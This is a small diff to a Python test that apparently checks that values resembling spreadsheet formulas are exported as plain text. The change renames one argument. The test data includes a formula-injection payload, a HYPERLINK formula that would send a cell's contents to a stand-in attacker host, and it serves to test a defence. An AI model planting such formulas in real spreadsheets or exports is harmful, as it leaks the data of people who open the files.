@@ -118,7 +118,7 @@ def test_a_reason_that_looks_like_a_formula_is_exported_as_text(client, carol, h
         actor=bob,
         identity_kind="delegation",
         identity_email="alice@example.com",
-        space_id="spaces/AliceLive001",
+        space_name="spaces/AliceLive001",
         target='=HYPERLINK("https://evil.test/?"&A1,"INC-1")',
         reason="@SUM(1+1)",
     )
